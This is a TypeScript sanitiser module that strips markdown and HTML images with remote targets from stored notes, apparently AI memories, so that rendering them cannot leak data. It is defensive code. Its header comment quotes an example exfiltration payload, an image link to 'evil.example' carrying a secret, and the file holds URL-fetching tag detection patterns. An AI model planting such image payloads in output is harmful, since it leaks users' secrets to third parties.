/**
 * Drops images that would make a markdown or HTML viewer fetch a URL: a stored note with
 * `![x](https://evil.example/?q=<secret>)` exfiltrates data the moment the rendered context is displayed
 * (threat model R2). Quoting does not help here, because images still render inside block quotes.
 */

/** What a dropped image becomes in rendered output. */
export const IMAGE_REMOVED = '[image removed]';

// Bounds keep the scan linear-ish on hostile input (W9): no image needs a longer alt text or target.
const MAX_ALT = 1024;
const MAX_TARGET = 2048;

/**
 * Image targets we keep: plain relative paths, which no viewer can turn into a request to a third party.
 * Everything else is dropped, including `data:`, protocol-relative `//host` and entity-encoded schemes
 * (`&#104;ttps:`), which CommonMark decodes.
 */
const SAFE_TARGET = /^(?!\/\/)[\w.~/-]+$/u;

const REFERENCE_DEFINITION =
  /^[ \t>*+\-\d.)]*\[([^\]\n]{1,999})\]:[ \t]*(?:\n[ \t>]*)?(<[^>\n]*>|\S*)/gmu;

// Tags that fetch their URL attribute on display. A bare `<object>` or `Map<Image>` in code has no
// attribute, which is why the attribute is required.
const URL_TAG =
  /<(?:img|image|picture|source|video|audio|iframe|frame|embed|object|input|svg)\b[^<>]*(?:>|$)/giu;
const URL_ATTRIBUTE = /(?:src|srcset|href|data|poster|background)\s*=/iu;

/**
 * Labels of reference definitions (`[r]: https://…`) whose target is not a safe relative path, across
 * every text of one emission: definitions are document-wide, so a definition in one memory serves an
 * image reference in another.
 */
export function collectRemoteImageLabels(texts: readonly string[]): Set<string> {
  const labels = new Set<string>();
  for (const text of texts) {
    for (const match of text.matchAll(REFERENCE_DEFINITION)) {
      const target = (match[2] ?? '').replace(/^<|>$/gu, '');
      if (!SAFE_TARGET.test(target)) labels.add(normaliseLabel(match[1] ?? ''));
    }
  }
  return labels;
}

/**
 * Replaces with {@link IMAGE_REMOVED}: HTML tags that load a URL, inline markdown images whose target
 * is not a safe relative path, and reference-style images (`![x][r]`, `![r][]`, `![r]`) whose label is
 * in `remoteLabels`.
 */
export function stripImages(text: string, remoteLabels: ReadonlySet<string>): string {
  const withoutTags = text.replace(URL_TAG, (tag) =>
    URL_ATTRIBUTE.test(tag) ? IMAGE_REMOVED : tag,
  );
  return stripMarkdownImages(withoutTags, remoteLabels);
}

function stripMarkdownImages(text: string, remoteLabels: ReadonlySet<string>): string {
  let out = '';
  let cursor = 0;
  let at = text.indexOf('![', cursor);
  while (at >= 0) {
    const removeTo = imageEndIfUnsafe(text, at, remoteLabels);
    if (removeTo === undefined) {
      // Keep it, but rescan from inside: a nested image in the alt text is still an image to some viewers.
      out += text.slice(cursor, at + 2);
      cursor = at + 2;
    } else {
      out += text.slice(cursor, at) + IMAGE_REMOVED;
      cursor = removeTo;
    }
    at = text.indexOf('![', cursor);
  }
  return out + text.slice(cursor);
}

/** The index just after an unsafe image starting at `at`, or `undefined` when it is safe or no image. */
function imageEndIfUnsafe(
  text: string,
  at: number,
  remoteLabels: ReadonlySet<string>,
): number | undefined {
  const altEnd = findClosing(text, at + 1, '[', ']', MAX_ALT);
  if (altEnd < 0) return undefined;
  const alt = text.slice(at + 2, altEnd);
  // CommonMark allows no gap before `(` or `[`; some viewers allow spaces, so accept them.
  let next = altEnd + 1;
  while (text[next] === ' ' || text[next] === '\t') next += 1;
  if (text[next] === '(') {
    const targetEnd = findClosing(text, next, '(', ')', MAX_TARGET);
    // An unclosed target is not an image to CommonMark; drop it to the line end anyway (fail closed).
    const end = targetEnd < 0 ? lineEnd(text, next) : targetEnd + 1;
    const target = parseTarget(text.slice(next + 1, targetEnd < 0 ? end : targetEnd));
    return SAFE_TARGET.test(target) ? undefined : end;
  }
  if (text[next] === '[') {
    const labelEnd = findClosing(text, next, '[', ']', MAX_ALT);
    if (labelEnd >= 0) {
      const label = text.slice(next + 1, labelEnd);
      const key = normaliseLabel(label.trim() === '' ? alt : label);
      return remoteLabels.has(key) ? labelEnd + 1 : undefined;
    }
  }
  return remoteLabels.has(normaliseLabel(alt)) ? altEnd + 1 : undefined;
}

/** Index of the bracket closing the one at `open`, honouring nesting and backslash escapes; -1 if none. */
function findClosing(
  text: string,
  open: number,
  opener: string,
  closer: string,
  max: number,
): number {
  let depth = 0;
  const limit = Math.min(text.length, open + max);
  for (let index = open; index < limit; index += 1) {
    const char = text[index];
    if (char === '\\') index += 1;
    else if (char === opener) depth += 1;
    else if (char === closer) {
      depth -= 1;
      if (depth === 0) return index;
    }
  }
  return -1;
}

/** The link target: the first token of the parenthesised part, without `<…>` around it. */
function parseTarget(inside: string): string {
  const trimmed = inside.trim();
  if (trimmed.startsWith('<')) {
    const close = trimmed.indexOf('>');
    return close < 0 ? trimmed : trimmed.slice(1, close);
  }
  return trimmed.split(/\s/u, 1)[0] ?? '';
}

function lineEnd(text: string, from: number): number {
  const newline = text.indexOf('\n', from);
  return newline < 0 ? text.length : newline;
}

function normaliseLabel(label: string): string {
  return label.trim().replace(/\s+/gu, ' ').toLowerCase();
}
